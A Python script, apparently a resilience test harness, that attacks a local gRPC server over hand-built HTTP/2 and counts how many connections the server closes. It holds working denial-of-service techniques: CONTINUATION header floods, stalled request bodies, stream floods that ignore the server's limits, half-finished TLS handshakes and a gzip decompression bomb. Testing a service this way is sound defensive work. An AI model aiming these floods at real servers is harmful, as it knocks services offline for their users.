"""Strangers who want to stop a server: many connections of one kind, each made anew when it is closed.

    hostile.py KIND PORT [--connections N] [--seconds S] [--from ADDRESS]

Speaks HTTP/2 by hand, since no library sends what is wrong. Prints one line at the end.
"""

import argparse
import contextlib
import errno
import selectors
import socket
import struct
import sys
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
MAX_FRAME = 16384
STREAMS = 100  # of one connection


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field without Huffman code and index."""
    return (b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode())


FIELDS = ((":method", "POST"), (":scheme", "http"), (":authority", "x"),
          (":path", "/litags.v1.ReconstructionService/CreateJob"), ("te", "trailers"),
          ("content-type", "application/grpc"))


def request_headers(*extra):
    return b"".join(literal(*field) for field in (*FIELDS, *extra))


# The same, put into the peer's table, and then named by their places in it.
INDEXING = b"".join(b"\x40" + literal(*field)[1:] for field in FIELDS)
INDEXED = bytes(0x80 | (61 + len(FIELDS) - i) for i in range(len(FIELDS)))


def grpc_message(body, compressed=0):
    return struct.pack(">BI", compressed, len(body)) + body


# As large as the server takes, but for its end.
UNENDED = grpc_message(bytes(2_097_000))[:-10]


def bomb(mib):
    """A gzip stream of so many zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(mib)) + packer.flush()


class Connection:
    """One connection; what it sends and how it goes on are its kind's."""

    def __init__(self, plan, args):
        self.plan, self.args = plan, args
        self.sock = None
        self.again_at = 0.0

    def open(self):
        self.sock = socket.socket()
        self.sock.bind((self.args.source, 0))
        self.sock.setblocking(False)
        self.out, self.incoming = bytearray(), b""
        self.speaks_http2 = False
        self.window, self.initial, self.windows, self.bodies = 65535, 65535, {}, {}
        result = self.sock.connect_ex(("127.0.0.1", self.args.port))
        if result not in (0, errno.EINPROGRESS):
            raise OSError(result, "connect")
        self.plan(self)

    def close(self):
        self.sock.close()
        self.sock = None
        self.again_at = time.monotonic() + 0.1

    def start_http2(self):
        self.speaks_http2 = True
        self.out += PREFACE + frame(SETTINGS)

    def open_stream(self, body, *extra, end=False):
        stream = 2 * len(self.windows) + 1
        self.out += frame(HEADERS, END_HEADERS, stream, request_headers(*extra))
        self.windows[stream] = self.initial
        self.bodies[stream] = (memoryview(body), end)

    def fill(self):
        """Moves as much of the bodies into the output as the windows allow."""
        for stream, (body, end) in list(self.bodies.items()):
            while body and len(self.out) < 1 << 18:
                size = min(len(body), MAX_FRAME, self.window, self.windows[stream])
                if size <= 0:
                    break
                last = end and size == len(body)
                self.out += frame(DATA, END_STREAM if last else 0, stream, bytes(body[:size]))
                body = body[size:]
                self.window -= size
                self.windows[stream] -= size
            if body:
                self.bodies[stream] = (body, end)
            else:
                del self.bodies[stream]

    def send(self):
        self.fill()
        with contextlib.suppress(BlockingIOError):
            while self.out:
                del self.out[:self.sock.send(self.out[:1 << 17])]
                self.fill()

    def receive(self):
        """False: the other end closed it."""
        with contextlib.suppress(BlockingIOError):
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    return False
                if self.speaks_http2:  # else not even the server's settings are answered
                    self.incoming += data
                    self.read_frames()
        return True

    def read_frames(self):
        while len(self.incoming) >= 9:
            size = int.from_bytes(self.incoming[:3], "big")
            if len(self.incoming) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self.incoming[3:9])
            payload, self.incoming = self.incoming[9:9 + size], self.incoming[9 + size:]
            if kind == SETTINGS and not flags & ACK:
                self.apply(payload)
                self.out += frame(SETTINGS, ACK)
            elif kind == PING and not flags & ACK:
                self.out += frame(PING, ACK, 0, payload)
            elif kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                if stream:
                    self.windows[stream] = self.windows.get(stream, 0) + more
                else:
                    self.window += more
            elif kind == RST_STREAM:
                self.bodies.pop(stream, None)

    def apply(self, settings):
        for at in range(0, len(settings), 6):
            key, value = struct.unpack(">HI", settings[at:at + 6])
            if key == INITIAL_WINDOW_SIZE:
                for stream in self.windows:
                    self.windows[stream] += value - self.initial
                self.initial = value


def idle(connection):
    """Says nothing."""


def handshake(connection):
    """The start of a TLS handshake that does not go on."""
    connection.out += b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)


def headers(connection):
    """Headers that never end."""
    connection.start_http2()
    connection.out += frame(HEADERS, 0, 1, request_headers())
    for i in range(2000):
        connection.out += frame(CONTINUATION, 0, 1, literal(f"x-{i}", "y" * 100) * 8)


def unended(connection):
    """Requests of 2 MiB whose last bytes do not come."""
    connection.start_http2()
    body = UNENDED
    for _ in range(STREAMS):
        connection.open_stream(body)


def opened(connection):
    """Thousands of calls of 15 bytes that are opened, and no more. The settings, with the number of
    calls that a connection may have, are never read."""
    connection.start_http2()
    connection.out += frame(HEADERS, END_HEADERS, 1, INDEXING)
    for stream in range(3, 16000, 2):
        connection.out += frame(HEADERS, END_HEADERS, stream, INDEXED)


def client(connection):
    """The same by somebody with a token."""
    connection.start_http2()
    connection.open_stream(grpc_message(b""), ("authorization", f"Bearer {connection.args.token}"),
                           end=True)
    body = UNENDED
    for _ in range(STREAMS):
        connection.open_stream(body)


def gzip(connection):
    """Requests that become 1,000 times as large."""
    connection.start_http2()
    for _ in range(3):
        connection.open_stream(connection.args.bomb, ("grpc-encoding", "gzip"), end=True)


KINDS = {kind.__name__: kind for kind in (idle, handshake, headers, unended, opened, client, gzip)}


def attack(args):
    """1 if not even the first connection of each could be made."""
    waits = selectors.DefaultSelector()
    connections = [Connection(KINDS[args.kind], args) for _ in range(args.connections)]
    end = time.monotonic() + args.seconds
    opened = closed = 0
    while time.monotonic() < end:
        now = time.monotonic()
        for connection in connections:
            if connection.sock is None and connection.again_at <= now:
                try:
                    connection.open()
                except OSError:
                    connection.close()
                    continue
                opened += 1
                waits.register(connection.sock, selectors.EVENT_READ | selectors.EVENT_WRITE,
                               connection)
        for key, events in waits.select(0.05):
            connection = key.data
            try:
                alive = connection.receive() if events & selectors.EVENT_READ else True
                connection.send()
            except OSError:
                alive = False
            if not alive:
                waits.unregister(connection.sock)
                connection.close()
                closed += 1
                continue
            wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if connection.out else 0)
            if key.events != wanted:
                waits.modify(connection.sock, wanted, connection)
    print(f"{args.kind}: {opened} connections made, {closed} of them closed by the server")
    return 1 if opened < args.connections else 0


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--from", dest="source", default="127.0.0.2")
    parser.add_argument("--token", default="")
    parser.add_argument("--bomb-mib", type=int, default=300)
    args = parser.parse_args()
    args.bomb = grpc_message(bomb(args.bomb_mib), 1) if args.kind == "gzip" else b""
    return attack(args)


if __name__ == "__main__":
    sys.exit(main())
